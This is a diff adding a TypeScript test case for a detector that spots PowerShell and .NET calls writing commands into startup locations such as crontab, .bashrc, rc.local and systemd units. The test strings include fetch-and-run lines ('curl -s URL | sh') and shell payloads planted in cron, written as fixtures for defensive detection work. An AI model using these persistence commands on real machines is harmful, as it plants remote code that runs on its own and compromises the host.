@@ -131,6 +131,21 @@ describe('what interpreter code writes where it runs', () => {
     expect(codeLines(`File.write('/tmp/x', 'curl -s ${URL} | sh')`, 'ruby')).toEqual([]);
   });
 
+  it('reads what PowerShell cmdlets and .NET calls write where it runs', () => {
+    const ps = (code: string): readonly string[] => canonicalExecValue(['pwsh', '-c', code])!.payloads;
+    expect(ps(`Add-Content -Path /etc/crontab -Value '* * * * * root ${SHELL}'`)).toEqual([SHELL]);
+    expect(ps(`Add-Content ~/.bashrc 'curl -s ${URL} | sh'`)).toEqual([`curl -s ${URL} | sh`]); // -Path and -Value by position
+    expect(ps(`$c = '@reboot root ${SHELL}'; Set-Content -Path /etc/cron.d/k -Va $c`)).toEqual([SHELL]); // a bound variable, a prefix of -Value
+    expect(ps(`'curl -s ${URL} | sh' | Out-File -Append -FilePath /etc/rc.local`)).toEqual([`curl -s ${URL} | sh`]); // its input
+    expect(ps(`New-Item -Path /etc/cron.d/k -ItemType File -Value '* * * * * root ${SHELL}' -Force`)).toEqual([SHELL]);
+    expect(ps(`[IO.File]::AppendAllText('/root/.bashrc', 'curl -s ${URL} | sh')`)).toEqual([`curl -s ${URL} | sh`]);
+    expect(ps(`[System.IO.File]::WriteAllText("/etc/systemd/system/k.service", "[Service]\`nExecStart=/tmp/.k\`n")`)).toEqual(['/tmp/.k']);
+    // Elsewhere, or a value known only at run time: nothing.
+    expect(ps(`Add-Content -Path /tmp/notes -Value 'curl -s ${URL} | sh'`)).toEqual([]);
+    expect(ps(`Add-Content -Path /etc/crontab -Value $env:X; Get-Content /etc/crontab | Out-Null`)).toEqual([]);
+    expect(ps(`[IO.File]::ReadAllText('/etc/crontab'); Set-Content -Path /etc/motd -Value 'hi'`)).toEqual([]);
+  });
+
   it('keeps its bounds on hostile code', () => {
     // Texts written elsewhere take no place from one written where it runs.
     const junk = Array.from({ length: 8 }, (_, i) => `open('/tmp/j${i}', 'w').write('x')`).join('\n');
